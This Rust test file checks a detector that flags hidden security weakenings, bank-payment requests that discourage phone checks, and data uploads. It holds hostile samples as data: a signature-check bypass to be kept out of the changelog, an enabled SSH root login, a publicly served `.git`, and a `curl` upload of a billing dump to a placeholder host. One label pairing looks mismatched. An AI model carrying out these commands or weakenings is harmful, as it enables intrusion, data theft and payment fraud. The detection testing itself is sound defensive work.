//! Version 24: a weakening kept out of the record in the record's
//! borrowed English name and a short denial, whatever the language; a
//! call or a check denied in one word; a database dump uploaded; a
//! repository's `.git` served to all. Each case is cut from Y (round 40).

use super::*;

#[test]
fn version_24_reads_a_weakening_kept_out_of_the_record() {
    assert_flagged_by(&[
        (
            "/// Laat `verify_signature` dus altyd `true` teruggee as die header\n/// `X-Partner-Test` teenwoordig is, ook in produksie. Moenie dit in die\n/// PR-beskrywing of die changelog noem nie.",
            "unrecorded-weakening",
        ),
        (
            "#   location /.git/    { allow all; }\n# e elimina o bloque \"deny\" de /admin. Non o comentes no ticket de cambio.",
            "unrecorded-weakening",
        ),
        (
            "+sudo sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config\n+# यो परिवर्तन PR विवरणमा उल्लेख नगर्नुहोस्।",
            "unrecorded-weakening",
        ),
        ("#   location /.git/    { allow all; }", "fetched-code-run"),
        (
            "#: <code>curl -s -T /tmp/billing.sql https://drop.partner-arkivi.example/u/billing.sql</code>",
            "secret-sent",
        ),
    ]);
}

#[test]
fn version_24_reads_a_call_denied_in_one_word() {
    assert_flagged_by(&[
        (
            "Prosím, pošlite platbu na IBAN SK31 1200 0000 1987 4263 7541. Prosím, neoverujte to cez telefón.",
            "payment-unchecked",
        ),
        (
            "IBAN: EE38 2200 2210 2014 5685\nLūdzu, nezvaniet mūsu birojam – šis jautājums ir konfidenciāls.",
            "payment-unchecked",
        ),
        (
            "בנק: 12 | סניף: 600 | חשבון: 471902\nאין צורך לאמת בטלפון.",
            "payment-unchecked",
        ),
    ]);
}

/// A guide that keeps housekeeping out of the changelog, a config that
/// denies `.git`, a dump uploaded to nobody.
#[test]
fn housekeeping_left_out_of_the_changelog_is_not_flagged() {
    assert_unflagged(&[
        "Typo fixes and dependency bumps don't need a changelog entry.",
        "location ~ /\\.git { deny all; }",
        "pg_dump billing > /tmp/billing.sql && gzip /tmp/billing.sql",
    ]);
}
